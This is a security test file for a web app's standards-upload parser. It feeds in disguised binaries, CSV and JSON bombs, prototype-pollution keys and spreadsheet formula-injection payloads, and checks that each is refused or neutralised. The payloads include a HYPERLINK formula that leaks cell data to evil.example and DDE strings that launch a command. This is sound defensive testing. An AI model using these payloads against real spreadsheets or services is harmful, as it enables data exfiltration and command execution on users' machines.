/**
 * Upload abuse against parseStandardUpload (lib/frameworks/upload), the only file import (SECURITY.md
 * 4.6). Already covered in lib/frameworks/upload and not repeated here: a file over 5 MB, more than
 * 20,000 rows, XLSX renamed to .csv, a binary with NUL bytes, bytes that are neither UTF-8 nor
 * Shift_JIS, a cell over 4,000 characters, 200-issue cap, formula cells round-tripping through
 * frameworkToCsv. This file adds the hostile shapes those tests do not: other disguised formats, a
 * single-cell "CSV bomb", column and quote bombs, deep JSON, broken UTF-16, prototype keys, and formula
 * payloads in every exported CSV (standards, roles, readiness).
 */
import { describe, expect, test } from 'vitest'
import {
  MAX_CELL_CHARS,
  MAX_ISSUES,
  MAX_UPLOAD_BYTES,
  parseStandardUpload,
  type ParseResult,
  type StandardMeta,
} from '@/lib/frameworks/upload/parse'
import { csvCell as standardCell, frameworkToCsv } from '@/lib/frameworks/upload/export-csv'
import { csvCell as rolesCell } from '@/lib/frameworks/case'

const meta: StandardMeta = { id: 'acme', version: '1', title: 'ACME standard', publisher: 'ACME Corp' }
const HEADER = 'type,id,text,description,category,roles\n'
const enc = (s: string) => new TextEncoder().encode(s)
const concat = (...parts: (Uint8Array | number[])[]) => {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0))
  let at = 0
  for (const p of parts) {
    out.set(p, at)
    at += p.length
  }
  return out
}
function errors(r: ParseResult) {
  if (r.ok) throw new Error('expected the upload to be refused')
  return r.errors
}
/** Runs `fn` and fails when it takes longer than `ms` (a parser that backtracks or copies quadratically). */
function timed<T>(ms: number, fn: () => T): T {
  const t0 = performance.now()
  const v = fn()
  expect(performance.now() - t0, 'parse time (ms)').toBeLessThan(ms)
  return v
}

describe('disguised file types are refused before parsing', () => {
  const cases: [string, Uint8Array, RegExp][] = [
    // PNG: signature, then an IHDR chunk (NUL bytes).
    [
      'PNG renamed to .csv',
      concat([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d], enc('IHDR')),
      /^binary file/,
    ],
    // A ZIP archive (what a zip bomb would be) with a CSV inside: the ZIP signature is refused outright.
    [
      'ZIP archive holding a CSV',
      concat([0x50, 0x4b, 0x03, 0x04, 0x14, 0, 0, 0], enc('standard.csv'), enc(HEADER)),
      /Save As/,
    ],
    [
      'empty ZIP (end-of-central-directory only)',
      concat([0x50, 0x4b, 0x05, 0x06], new Array(18).fill(0)),
      /^binary file/,
    ],
    ['gzip stream', concat([0x1f, 0x8b, 0x08, 0x00, 0, 0, 0, 0, 0, 0x03], enc('x')), /^binary file/],
    [
      'legacy XLS (OLE2) as .csv',
      concat([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], enc(HEADER)),
      /Save As/,
    ],
    ['PDF with a NUL', concat(enc('%PDF-1.7\n'), [0], enc(HEADER)), /^binary file/],
    ['ELF executable', concat([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), /^binary file/],
  ]
  test.each(cases)('%s', (_name, bytes, reason) => {
    const e = errors(parseStandardUpload(bytes, 'standard.csv', meta))
    expect(e).toHaveLength(1)
    expect(e[0]!.reason).toMatch(reason)
  })

  test('UTF-16 with a lone surrogate, or an odd byte count, is refused, not replaced', () => {
    const bom = [0xff, 0xfe]
    const text = Array.from(enc('type,id\n')).flatMap((b) => [b, 0])
    for (const tail of [[0x00, 0xd8], [0x00, 0xdc, 0x41, 0x00], [0x41]]) {
      const e = errors(parseStandardUpload(concat(bom, text, tail), 'u16.csv', meta))
      expect(e[0]!.reason).toMatch(/^not valid UTF-16LE text/)
    }
    const be = concat(
      [0xfe, 0xff],
      Array.from(enc('type,id\n')).flatMap((b) => [0, b]),
      [0xdc, 0x00],
    )
    expect(errors(parseStandardUpload(be, 'u16.csv', meta))[0]!.reason).toMatch(/^not valid UTF-16BE text/)
  })
})

describe('bombs stay bounded', () => {
  test('a CSV bomb: one cell of almost 5 MB is one short error, fast', () => {
    const bomb = enc(HEADER + 'task,T1,' + 'A'.repeat(MAX_UPLOAD_BYTES - HEADER.length - 20) + ',,,\n')
    expect(bomb.length).toBeLessThanOrEqual(MAX_UPLOAD_BYTES)
    const e = errors(timed(5_000, () => parseStandardUpload(bomb, 'bomb.csv', meta)))
    const cell = e.find((i) => /limit is/.test(i.reason))
    expect(cell?.reason).toContain(MAX_CELL_CHARS.toLocaleString('en'))
    // Messages quote a shortened value, never the 5 MB.
    expect(JSON.stringify(e).length).toBeLessThan(10_000)
  })

  test('an unterminated quote swallowing the whole file is one error at its line, fast', () => {
    const bytes = enc(HEADER + 'task,T1,"' + 'x,\n'.repeat(1_500_000))
    expect(bytes.length).toBeLessThanOrEqual(MAX_UPLOAD_BYTES)
    const e = errors(timed(5_000, () => parseStandardUpload(bytes, 'quote.csv', meta)))
    expect(e.some((i) => i.line === 2 && /quote/.test(i.reason))).toBe(true)
    expect(JSON.stringify(e).length).toBeLessThan(10_000)
  })

  test('a column bomb (one row with a million delimiters) is refused with bounded messages, fast', () => {
    const bytes = enc(HEADER + 'task,T1,text' + ','.repeat(1_000_000) + '\n')
    const r = timed(5_000, () => parseStandardUpload(bytes, 'cols.csv', meta))
    const all = [...(r.ok ? [] : r.errors), ...r.warnings]
    expect(all.length).toBeLessThanOrEqual(2 * (MAX_ISSUES + 1))
    expect(JSON.stringify(all).length).toBeLessThan(100_000)
  })

  test('deeply nested JSON is refused without a stack overflow, valid or not', () => {
    const depth = 100_000
    const deep = '['.repeat(depth) + ']'.repeat(depth)
    for (const text of [
      deep,
      `{"workRoles":[],"statements":${deep}}`,
      `{"workRoles":[],"statements":[{"id":"T1","type":"task","text":${deep}}]}`,
    ]) {
      const e = errors(timed(5_000, () => parseStandardUpload(enc(text), 'deep.json', meta)))
      expect(e.length).toBeGreaterThan(0)
      expect(JSON.stringify(e).length).toBeLessThan(10_000)
    }
    // Broken deep JSON goes through the syntax-error finder, which stops at depth 256.
    const broken = errors(timed(5_000, () => parseStandardUpload(enc('['.repeat(depth)), 'deep.json', meta)))
    expect(broken[0]!.reason).toMatch(/nested too deeply/)
  })

  test('prototype keys in a JSON document do not pollute objects', () => {
    const raw =
      '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},' +
      '"workRoles":[{"id":"R1","title":"x","__proto__":{"polluted":true}}],' +
      '"statements":[{"id":"T1","type":"task","text":"x","__proto__":{"polluted":true}}]}'
    parseStandardUpload(enc(raw), 'proto.json', meta)
    expect(({} as Record<string, unknown>).polluted).toBeUndefined()
    expect(Object.prototype).not.toHaveProperty('polluted')
  })
})

describe('formula injection: uploaded text exported back as CSV', () => {
  const PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    '+SUM(1;2)',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(A1:A9)',
  ]

  test('an uploaded standard full of formulas is exported with every formula cell defused, and re-imports unchanged', () => {
    // Uploaded with the apostrophes a careful author (or Kenshu's own export) would add.
    const rows = PAYLOADS.map((p, i) => `task,T${i + 1},"'${p.replaceAll('"', '""')}",,,R1`)
    const upload = enc(`${HEADER}role,R1,"'=1+1",,,\n${rows.join('\n')}\n`)
    const r = parseStandardUpload(upload, 'formulas.csv', meta)
    if (!r.ok) throw new Error(JSON.stringify(r.errors))
    expect(r.framework.statements.map((x) => x.text)).toEqual(PAYLOADS)
    expect(r.framework.workRoles[0]!.title).toBe('=1+1')
    const csv = frameworkToCsv(r.framework)
    const cells = csv
      .replace(/^\uFEFF/, '')
      .split('\r\n')
      .flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? [])
      .map((c) => c.replace(/,$/, '').replace(/^"/, ''))
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([])
    expect(cells.filter((c) => c.startsWith("'")).length).toBe(PAYLOADS.length + 1)
    const back = parseStandardUpload(enc(csv), 'again.csv', meta)
    if (!back.ok) throw new Error(JSON.stringify(back.errors))
    expect(back.framework.statements.map((x) => x.text)).toEqual(PAYLOADS)
    expect(standardCell(PAYLOADS[0]!)).toMatch(/^"'=/)
  })

  test('a display name with a formula does not start a cell in the readiness CSV', () => {
    // app/api/progress/readiness/route.ts writes [name, email, …scores].map(csvCell).join(',').
    for (const name of [...PAYLOADS, '\t=1+1', '\r=1+1']) {
      const line = [name, 'a@b.c', '0.500'].map(rolesCell).join(',')
      expect(line.replace(/^"/, '').startsWith("'"), line).toBe(true)
    }
  })
})
